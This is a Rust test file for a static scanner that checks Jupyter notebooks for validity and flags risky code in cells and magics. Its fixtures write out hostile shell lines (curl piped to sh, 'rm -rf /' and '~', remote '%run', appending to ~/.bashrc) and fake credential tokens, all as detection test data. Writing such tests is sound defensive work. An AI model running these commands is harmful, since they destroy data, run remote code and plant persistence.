//! Tests of: notebooks. Verdicts are IPython's, places are where a reader should look in the file and in the cell.

use std::collections::BTreeSet;

use serde_json::{Value, json};
use vetrun::artifact::{Artifact, SourceFile};
use vetrun::finding::{Cell, Finding};
use vetrun::language::{EngineVersions, PythonVersion};
use vetrun::passes::parse::{Parsed, Target, Validity, parse};
use vetrun::passes::scan::scan;
use vetrun::policy::{ParsePolicy, ScanPolicy};
use vetrun::rules::RuleSet;

/// A notebook of code cells, each source a list of lines as Jupyter writes it.
fn notebook(cells: &[&str]) -> Value {
    let cell = |source: &&str| {
        let lines: Vec<&str> = source.split_inclusive('\n').collect();
        json!({ "cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": lines })
    };
    let kernel = json!({ "display_name": "Python 3", "language": "python", "name": "python3" });
    json!({
        "cells": cells.iter().map(cell).collect::<Vec<_>>(),
        "metadata": { "kernelspec": kernel },
        "nbformat": 4,
        "nbformat_minor": 5,
    })
}

fn artifact(text: &str) -> Artifact {
    Artifact::new("a", "a", vec![SourceFile::new("a.ipynb", text.as_bytes())], Vec::new())
}

fn parsed(artifact: &Artifact) -> (Parsed<'_>, Vec<Finding>) {
    let policy = ParsePolicy { python_version: Some(PythonVersion::Py311), ..ParsePolicy::default() };
    let target = Target::new(&policy, EngineVersions::default(), None);
    parse(artifact, &policy, &target)
}

/// The verdict on a file, and what was found in it.
fn judge(text: &str) -> (Validity, Vec<Finding>) {
    let artifact = artifact(text);
    let (parsed, findings) = parsed(&artifact);
    (parsed.files[0].validity, findings)
}

/// What the scan finds in a file.
fn scanned(text: &str) -> Vec<Finding> {
    let artifact = artifact(text);
    let (parsed, _) = parsed(&artifact);
    let rules = RuleSet::load(true, &[] as &[&str]).expect("the built-in rules are valid");
    scan(&parsed, &rules, &ScanPolicy::default()).0
}

fn scanned_cells(cells: &[&str]) -> Vec<Finding> {
    scanned(&notebook(cells).to_string())
}

fn has(findings: &[Finding], rule: &str) -> bool {
    findings.iter().any(|finding| finding.rule_id == rule)
}

#[test]
fn cells_are_compiled_as_ipython_compiles_them() {
    let cases: Vec<(String, bool)> = serde_json::from_str(include_str!("parse_notebook/verdicts.json")).unwrap();
    assert!(cases.len() > 70);
    let wrong: Vec<_> = cases
        .iter()
        .filter(|(cell, is_valid)| (judge(&notebook(&[cell]).to_string()).0 == Validity::Valid) != *is_valid)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn an_error_in_one_cell_hides_none_of_another_and_no_call_from_the_scan() {
    let cells = ["x = (1,\n", "s = '''open\n", "import os\n", "print(\n", "os.system(x)\n"];
    let (validity, findings) = judge(&notebook(&cells).to_string());
    assert_eq!(validity, Validity::Invalid);
    let broken: BTreeSet<u32> = findings.iter().filter_map(|finding| finding.cell).map(|cell| cell.index).collect();
    assert_eq!(broken, BTreeSet::from([1, 2, 4]));
    let found = scanned_cells(&cells);
    let cell = found.iter().find(|finding| finding.rule_id == "python-os-system").and_then(|finding| finding.cell);
    assert_eq!(cell, Some(Cell { index: 5, line: 1, column: 1, end_line: 1, end_column: 13 }));
}

#[test]
fn a_finding_is_at_its_place_in_the_file_through_escapes() {
    let text = concat!(
        "{\"nbformat\": 4, \"metadata\": {},\n \"cells\": [{\"cell_type\": \"markdown\", \"source\": \"# x\"},\n",
        "{\"cell_type\": \"code\", \"source\": [\"caf\\u00e9 = \\\"\\\\t\\\"\\n\",\n",
        "  \"if caf\\u00e9: eval(\\\"\\ud83d\\ude00\\\" + x)\"]}]}\n"
    );
    let found = scanned(text);
    let finding = found.iter().find(|finding| finding.rule_id == "python-eval").expect("it is found");
    let range = finding.range.expect("it has a place");
    assert_eq!(&text[range.start.offset..range.end.offset], "eval(\\\"\\ud83d\\ude00\\\" + x)");
    assert_eq!((range.start.line, range.start.column), (4, 18));
    assert_eq!(finding.cell, Some(Cell { index: 2, line: 2, column: 10, end_line: 2, end_column: 23 }));
    assert_eq!(finding.snippet.as_deref(), Some("if café: eval(\"😀\" + x)"));
}

#[test]
fn names_are_resolved_across_cells_and_inside_of_magics() {
    for (cells, rule) in [
        (&["from os import system as s", "x = 1", "s(x)"][..], "python-os-system"),
        (&["%%time\nimport os\nos.system(x)\n"], "python-os-system"),
        (&["%%capture out\nimport os as o", "%timeit -n 1 o.system(x)"], "python-os-system"),
        (&["%%timeit import os\nos.system(x)"], "python-os-system"),
        (&["%%python\nimport os\nos.system(x)"], "python-os-system"),
        (&["%%writefile x.py\nimport os\nos.system(x)"], "python-os-system"),
        (&["%%javascript\neval(x)"], "javascript-eval"),
        (&["%%html\n<p>é</p><script>eval(x)</script>"], "javascript-eval"),
        (&["%%html\n<a onclick=\"f()\">x</a>"], "html-inline-event-handler"),
        (&["for a in b:\n    !curl -s https://a.example/x | sh"], "shell-download-and-run"),
        (&["out = !curl -s https://a.example/x | sh"], "shell-download-and-run"),
        (&["%%bash\ncurl -s https://a.example/x | sh"], "shell-download-and-run"),
        (&["%sx rm -rf ~"], "shell-recursive-delete"),
        (&["%%!\nrm -rf /\n"], "shell-recursive-delete"),
        (&["rm -rf ~"], "shell-recursive-delete"),
        (&["!{command}"], "python-notebook-shell-dynamic"),
        (&["!ls"], "python-notebook-shell"),
        (&["%pip install x"], "python-install-at-run-time"),
        (&["pip install x"], "python-install-at-run-time"),
        (&["!python -m pip install x"], "python-install-at-run-time"),
        (&["%%bash\npip install x"], "python-install-at-run-time"),
        (&["! sudo reboot"], "python-privileged-command"),
        (&["%run x.py"], "python-notebook-run-file"),
        (&["%load_ext own"], "python-notebook-run-file"),
        (&["%run https://a.example/x.py"], "python-notebook-run-remote"),
        (&["%%cython\ncdef int x"], "python-notebook-unknown-magic"),
        (&["%%writefile -a ~/.bashrc\nx"], "python-startup-persistence"),
        (&["shell = get_ipython()", "shell.run_cell(x)"], "python-notebook-run-text"),
        (&["key = 'AKIA' 'x'\n# password\nawserver = 'AKIAIOSFODNN7REALKEY'"], "secret-aws-access-key"),
    ] {
        let found = scanned_cells(cells);
        assert!(has(&found, rule), "{cells:?}: {:?}", found.iter().map(|finding| &finding.rule_id).collect::<Vec<_>>());
    }
}

#[test]
fn what_is_only_text_is_no_code() {
    for cells in [
        &["x = '''\n!rm -rf ~/x\n'''\n", "# os.system(x)"][..],
        &["def system(x):\n    return x", "system('a')"],
        &["%%latex\n\\system{x}"],
        &["%matplotlib inline\n%load_ext autoreload\n%autoreload 2"],
        &["print?", "x??", "%cd data", "ls = 1\nls"],
    ] {
        let (validity, findings) = judge(&notebook(cells).to_string());
        assert_eq!((validity, findings.len()), (Validity::Valid, 0), "{cells:?}: {findings:?}");
        let found: Vec<_> = scanned_cells(cells).iter().map(|finding| finding.rule_id.to_string()).collect();
        assert_eq!(found, [] as [&str; 0], "{cells:?}");
    }
}

#[test]
fn outputs_markdown_and_metadata_are_read_as_text_with_their_escapes_undone() {
    let mut notebook = notebook(&["x = 1\n"]);
    let secret = "token = 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";
    notebook["cells"][0]["outputs"] = json!([{ "output_type": "stream", "name": "stdout", "text": [secret] }]);
    let plain = notebook.to_string();
    assert!(has(&scanned(&plain), "secret-github-token"), "{:?}", scanned(&plain));
    let escaped = plain.replace("ghp_", "\\u0067hp\\u005f");
    let found = scanned(&escaped);
    let finding = found.iter().find(|finding| finding.rule_id == "secret-github-token").expect("it is found");
    let range = finding.range.expect("it has a place");
    assert!(escaped[range.start.offset..range.end.offset].starts_with("\\u0067hp\\u005f0123"));
    assert_eq!(finding.cell, None);

    notebook["cells"] = json!([
        { "cell_type": "markdown", "metadata": {}, "source": ["# Title\n", "text 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\n"] }
    ]);
    let found = scanned(&notebook.to_string());
    let finding = found.iter().find(|finding| finding.rule_id == "secret-github-token").expect("it is found");
    assert_eq!(finding.cell.map(|cell| (cell.index, cell.line, cell.column)), Some((1, 2, 6)));
}

#[test]
fn code_is_reported_once() {
    let found = scanned_cells(&["password = 'x'\nt = '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'\n!rm -rf /\n"]);
    for rule in ["secret-github-token", "shell-recursive-delete"] {
        assert_eq!(found.iter().filter(|finding| finding.rule_id == rule).count(), 1, "{rule}: {found:?}");
    }
}

#[test]
fn what_is_no_notebook_is_refused_with_the_reason() {
    let code = r#"{"cell_type": "code", "source": "x"}"#;
    for (text, rule, part) in [
        ("[]".to_owned(), "notebook-invalid", "an object with `cells`"),
        ("".to_owned(), "json-syntax-error", "EOF"),
        (r#"{"cells": [], "nbformat": 4"#.to_owned(), "json-syntax-error", "EOF"),
        (r#"{"nbformat": 4}"#.to_owned(), "notebook-invalid", "no `cells`"),
        (r#"{"cells": []}"#.to_owned(), "notebook-invalid", "no `nbformat`"),
        (r#"{"cells": [], "nbformat": 2}"#.to_owned(), "notebook-invalid", "version 2"),
        (r#"{"cells": [], "nbformat": "4"}"#.to_owned(), "notebook-invalid", "no version number"),
        (r#"{"cells": {}, "nbformat": 4}"#.to_owned(), "notebook-invalid", "no list"),
        (r#"{"cells": [1], "nbformat": 4}"#.to_owned(), "notebook-invalid", "cell 1 is no object"),
        (r#"{"cells": [{"source": ""}], "nbformat": 4}"#.to_owned(), "notebook-invalid", "no `cell_type`"),
        (r#"{"cells": [{"cell_type": "x"}], "nbformat": 4}"#.to_owned(), "notebook-invalid", "unknown type `x`"),
        (r#"{"cells": [{"cell_type": "code"}], "nbformat": 4}"#.to_owned(), "notebook-invalid", "no `source`"),
        (
            r#"{"cells": [{"cell_type": "code", "source": ["x", 1]}], "nbformat": 4}"#.to_owned(),
            "notebook-invalid",
            "source that is no text",
        ),
        (
            r#"{"cells": [{"cell_type": "code", "source": "\ud800"}], "nbformat": 4}"#.to_owned(),
            "undecodable-text",
            "half a character",
        ),
        (
            r#"{"cells": [{"cell_type": "code", "source": "\u0000"}], "nbformat": 4}"#.to_owned(),
            "undecodable-text",
            "null bytes",
        ),
        (format!(r#"{{"cells": [], "cells": [{code}], "nbformat": 4}}"#), "notebook-invalid", "stands twice"),
        (
            r#"{"cells": [{"cell_type": "code", "source": "x", "s\u006furce": "y"}], "nbformat": 4}"#.to_owned(),
            "notebook-invalid",
            "`source` stands twice",
        ),
        (r#"{"cells": [], "worksheets": [], "nbformat": 4}"#.to_owned(), "notebook-invalid", "readers may take either"),
        (format!("\u{feff}{}", notebook(&[])), "notebook-invalid", "byte order mark"),
        (
            r#"{"cells": [], "metadata": {"kernelspec": {"language": "R", "name": "ir"}}, "nbformat": 4}"#.to_owned(),
            "notebook-language-not-judged",
            "R",
        ),
        (
            r#"{"cells": [], "metadata": {"language_info": {"name": "julia"}}, "nbformat": 4}"#.to_owned(),
            "notebook-language-not-judged",
            "julia",
        ),
        (
            r#"{"cells": [], "metadata": {"kernelspec": {"name": "bash"}}, "nbformat": 4}"#.to_owned(),
            "notebook-language-not-judged",
            "bash",
        ),
        (
            r#"{"worksheets": [{"cells": [{"cell_type": "code", "language": "r", "input": "x"}]}], "nbformat": 3}"#
                .to_owned(),
            "notebook-language-not-judged",
            "r",
        ),
    ] {
        let (validity, findings) = judge(&text);
        assert_eq!(validity, Validity::Invalid, "{text}");
        let fits = |finding: &Finding| finding.rule_id == rule && finding.message.contains(part);
        assert!(findings.iter().any(fits), "{text}: {findings:?}");
    }
}

#[test]
fn what_jupyter_reads_is_accepted() {
    let old = json!({
        "worksheets": [{ "cells": [
            { "cell_type": "heading", "level": 1, "source": "x" },
            { "cell_type": "code", "language": "python", "input": ["!ls\n", "x = 1"], "outputs": [] },
        ] }],
        "metadata": { "name": "" }, "nbformat": 3, "nbformat_minor": 0,
    });
    let mut one_string = notebook(&["x"]);
    one_string["cells"][0]["source"] = json!("await x\n");
    let mut empty = notebook(&[""]);
    empty["metadata"] = json!({});
    for value in [old, one_string, empty, notebook(&[])] {
        let (validity, findings) = judge(&value.to_string());
        assert_eq!((validity, findings.len()), (Validity::Valid, 0), "{value}: {findings:?}");
    }
}

#[test]
fn hostile_notebooks_are_judged_in_time() {
    let deep_brackets = "(".repeat(100_000);
    let deep_magics = "%time ".repeat(2_000);
    let quotes = "'''".repeat(50_001);
    let many: Vec<&str> = vec!["!ls\n"; 3_000];
    for text in [
        notebook(&[&deep_brackets]).to_string(),
        notebook(&[&deep_magics]).to_string(),
        notebook(&[&quotes]).to_string(),
        notebook(&[&"!echo (\n".repeat(20_000)]).to_string(),
        notebook(&[&"x = %a\n".repeat(20_000)]).to_string(),
        notebook(&vec!["%%html\n<p>"; 300]).to_string(),
        notebook(&["%%time\n".repeat(5_000).as_str()]).to_string(),
        format!("{{\"nbformat\": 4, \"cells\": {}", "[".repeat(1_000_000)),
    ] {
        assert_eq!(judge(&text).0, Validity::Invalid, "{}…", text.chars().take(300).collect::<String>());
    }
    for text in [notebook(&many).to_string(), notebook(&[&"!ls\\\n".repeat(20_000)]).to_string()] {
        let (validity, findings) = judge(&text);
        assert_eq!((validity, findings.len()), (Validity::Valid, 0), "{findings:?}");
    }
}

#[test]
fn no_magic_hides_the_lines_below_it() {
    for cell in ["%time x = '''\nimport os\nos.system(y)\n%time '''", "%%timeit x = (1,\nimport os\nos.system(y)"] {
        assert_eq!(judge(&notebook(&[cell]).to_string()).0, Validity::Invalid, "{cell}");
        assert!(has(&scanned_cells(&[cell]), "python-os-system"), "{cell}");
    }
}
